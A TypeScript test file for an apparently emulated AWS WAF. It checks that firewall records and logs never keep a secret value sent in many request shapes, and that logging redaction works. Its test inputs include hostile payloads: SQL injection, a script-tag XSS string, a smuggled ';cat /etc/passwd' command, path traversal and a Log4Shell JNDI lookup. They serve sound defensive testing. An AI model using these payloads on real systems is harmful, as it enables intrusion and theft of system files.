import assert from "node:assert/strict";
import { test } from "node:test";
import { ACL_OWNER, firewall, resourcesOf, wireRule } from "../waf/inspect.fixture.ts";
import { type LogRedaction, NOTHING_REDACTED, wafLogRecord } from "../waf/log-record.ts";
import { findManagedRuleGroup, managedRuleGroups } from "../waf/managed/managed-rule-groups.ts";
import { type RequestSketch, sketchRequest } from "../waf/request.fixture.ts";
import { pathWithoutSecrets } from "../waf/secret-values.ts";
import { firewallRecord } from "./firewall-record.ts";

/** What no record may hold, in any part: a client sends it as a secret, with an attack at its end. */
const MARKER = "S3CRETVALUE";

const groups = ["SQLiRuleSet", "CommonRuleSet", "KnownBadInputsRuleSet", "LinuxRuleSet", "UnixRuleSet"];
const managed = groups.map((name, index) => ({
  ...wireRule(name, index, {
    ManagedRuleGroupStatement: { VendorName: "AWS", Name: `AWSManagedRules${name}` },
  }),
  Action: undefined,
  // All groups are to see the request.
  OverrideAction: { Count: {} },
}));
const inspect = firewall(
  { Rules: managed },
  {
    ...resourcesOf(),
    managedRuleGroup: (vendor, name) => findManagedRuleGroup(managedRuleGroups(), vendor, name),
  },
);

const ATTACKS = [
  `${MARKER}' or '1'='1`,
  `${MARKER}<script>alert(1)</script>`,
  `${MARKER};cat /etc/passwd`,
  `../../../../${MARKER}/etc/passwd`,
  `\${jndi:ldap://203.0.113.5/${MARKER}}`,
];

const NAMES = [
  ...["password", "newPassword", "pw", "x-pw", "userPin", "otp", "mfaCode", "cvv", "ssn", "apiKey", "token"],
  ...["x-amz-security-token", "client_secret", "dpop", "x-amzn-oidc-data", "user[pass]", "p\u0061sswd"],
];

const json = (value: unknown): RequestSketch => ({ method: "POST", body: JSON.stringify(value) });
const post = (body: string, contentType = "application/x-www-form-urlencoded"): RequestSketch => ({
  ...{ method: "POST", body },
  headers: [["Content-Type", contentType]],
});
const enc = encodeURIComponent;

/** How a name and its value are sent. */
const SHAPES: Readonly<Record<string, (name: string, value: string) => RequestSketch>> = {
  argument: (name, value) => ({ queryString: `${enc(name)}=${enc(value)}` }),
  "argument, encoded twice": (name, value) => ({ queryString: `${enc(enc(name))}=${enc(enc(value))}` }),
  "pairs in the query": (name, value) => ({ queryString: `name=${enc(name)}&value=${enc(value)}` }),
  "JSON in an argument": (name, value) => ({ queryString: `q=${enc(JSON.stringify({ [name]: value }))}` }),
  form: (name, value) => post(`a=1&${enc(name)}=${enc(value)}`),
  "pairs in a form": (name, value) => post(`name=${enc(name)}&value=${enc(value)}`),
  "pairs in a form, the other way round": (name, value) => post(`value=${enc(value)}&name=${enc(name)}`),
  JSON: (name, value) => json({ user: { [name]: value } }),
  "JSON with an escaped name": (name, value) =>
    post(JSON.stringify({ [name]: value }).replace(name[0]!, `\\u00${name.charCodeAt(0).toString(16)}`)),
  "JSON in JSON": (name, value) => json({ a: JSON.stringify({ [name]: value }) }),
  "JSON in JSON in JSON": (name, value) =>
    json({ a: JSON.stringify({ b: JSON.stringify({ [name]: value }) }) }),
  "cut JSON in JSON": (name, value) => json({ a: JSON.stringify({ [name]: value }).slice(0, -2) }),
  "pairs in JSON": (name, value) => json({ fields: [{ name, value }] }),
  "keys and values in JSON": (name, value) => json([{ val: value, key: name }]),
  "a list in JSON": (name, value) => json(["login", name, value]),
  "GraphQL variables": (name, value) =>
    json({
      query: `mutation($p:String){login(${name.replace(/\W+/g, "_").replace(/_$/, "")}:$p)}`,
      variables: { p: value },
    }),
  "UTF-16": (name, value) => ({
    ...{ method: "POST" },
    body: Buffer.from(JSON.stringify({ [name]: value }), "utf16le"),
  }),
  "pairs in XML": (name, value) =>
    post(`<?xml version="1.0"?><f><n>${name}</n><v>${value.replaceAll("<", "&lt;")}</v></f>`, "text/xml"),
  "attributes of XML": (name, value) =>
    post(`<?xml version="1.0"?><f name="${name}" value="${value.replaceAll("<", "&lt;")}"/>`, "text/xml"),
  multipart: (name, value) =>
    post(
      `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--b--`,
      "multipart/form-data; boundary=b",
    ),
  header: (name, value) => ({ headers: [[name.replace(/[^\w-]/g, "-"), value]] }),
  "a header with an address": (name, value) => ({ headers: [["X-Original-Url", `/a?${name}=${value}`]] }),
  cookie: (name, value) => ({ headers: [["Cookie", `${enc(name)}=${enc(value)}`]] }),
  "credentials of an address": (name, value) => ({
    queryString: `u=http://${name}:${enc(value)}@203.0.113.5/a`,
  }),
  "credentials of an encoded address": (name, value) => ({
    queryString: `u=${enc(`http://${name}:${enc(value)}@203.0.113.5/a`)}`,
  }),
};

for (const [shape, sketchOf] of Object.entries(SHAPES)) {
  test(`no record holds a secret that is sent so: ${shape}`, () => {
    let matched = 0;
    for (const name of NAMES) {
      for (const attack of ATTACKS) {
        const sketch = sketchOf(name, attack);
        const decision = inspect(sketch);
        const { input } = sketchRequest(sketch);
        const record = firewallRecord(decision, {
          ...{ webAclArn: ACL_OWNER.arn, input },
          redaction: NOTHING_REDACTED,
        });
        matched += record.counted?.length ?? 0;
        const text = JSON.stringify(record);
        assert.ok(!text.includes(MARKER), `${name}: ${attack}: ${text}`);
      }
    }
    assert.ok(matched > 0, "the firewall saw nothing");
  });
}

test("a name that was inspected like a value is not told as a name", () => {
  const sketch: RequestSketch = { queryString: `${enc(`${MARKER}' or 1=1-- `)}` };
  const { input } = sketchRequest(sketch);
  const subject = { webAclArn: ACL_OWNER.arn, input, redaction: NOTHING_REDACTED };
  const [rule] = firewallRecord(inspect(sketch), subject).counted ?? [];
  assert.deepEqual([rule?.rule, rule?.seen[0]?.field], ["SQLiRuleSet", "…"]);
});

test("a path that is kept holds no secret", () => {
  for (const attack of ATTACKS) {
    for (const step of ["token", "reset-password", "api-keys", "session", "%74oken"]) {
      const uriPath = `/live/${step}/${enc(attack)}`;
      const { input } = sketchRequest({ uriPath });
      const subject = { webAclArn: ACL_OWNER.arn, input, redaction: NOTHING_REDACTED };
      const record = JSON.stringify(firewallRecord(inspect({ uriPath }), subject));
      assert.ok(!record.includes(MARKER), record);
      assert.ok(!pathWithoutSecrets(uriPath).includes(MARKER), uriPath);
    }
  }
});

const redaction: LogRedaction = {
  ...{ uriPath: true, queryString: true, method: true },
  headers: new Set(["x-note", "cookie"]),
};

test("what a logging configuration redacts is in neither a record nor a log", () => {
  for (const attack of ATTACKS) {
    const sketches: RequestSketch[] = [
      { uriPath: `/${enc(attack)}` },
      { queryString: `q=${enc(attack)}` },
      { queryString: `${enc(attack)}=1` },
      { queryString: `${enc(MARKER)}=${enc("1' or '1'='1")}` },
      { method: attack },
      { headers: [["X-Note", attack]] },
      { headers: [["Cookie", `a=${enc(attack)}`]] },
    ];
    for (const sketch of sketches) {
      const decision = inspect(sketch);
      const { input } = sketchRequest(sketch);
      const { arn: webAclArn } = ACL_OWNER;
      const subject = { timestampMs: 0, webAclArn, httpSourceId: "1:a:live", requestId: "r" };
      const kept = [
        firewallRecord(decision, { webAclArn, input, redaction }),
        wafLogRecord(decision, input, subject, redaction),
      ];
      const text = JSON.stringify(kept);
      assert.ok(!text.includes(MARKER), text);
    }
  }
});

test("the name of an argument is a piece of a redacted query string", () => {
  const sketch: RequestSketch = { queryString: `token=${enc("1' or '1'='1")}` };
  const { input } = sketchRequest(sketch);
  const fieldOf = (kept: LogRedaction) => {
    const subject = { webAclArn: ACL_OWNER.arn, input, redaction: kept };
    return firewallRecord(inspect(sketch), subject).counted?.[0]?.seen[0]?.field;
  };
  assert.equal(fieldOf(NOTHING_REDACTED), "token");
  assert.equal(fieldOf(redaction), undefined);
});

test("a limited address is told unless it stands in a redacted header", () => {
  const ForwardedIPConfig = { HeaderName: "x-note", FallbackBehavior: "NO_MATCH" } as const;
  const rate = {
    Limit: 10,
    EvaluationWindowSec: 60,
    AggregateKeyType: "FORWARDED_IP",
    ForwardedIPConfig,
  } as const;
  const ask = firewall({ Rules: [wireRule("flood", 0, { RateBasedStatement: rate })] });
  const sketch: RequestSketch = { headers: [["X-Note", "203.0.113.77"]] };
  let decision = ask(sketch);
  for (let i = 0; i < 10; i++) decision = ask(sketch);
  const { input } = sketchRequest(sketch);
  const told = (kept: LogRedaction) =>
    firewallRecord(decision, { webAclArn: ACL_OWNER.arn, input, redaction: kept }).rates?.[0]?.address;
  assert.equal(told(NOTHING_REDACTED), "203.0.113.77");
  assert.equal(told(redaction), undefined);
});
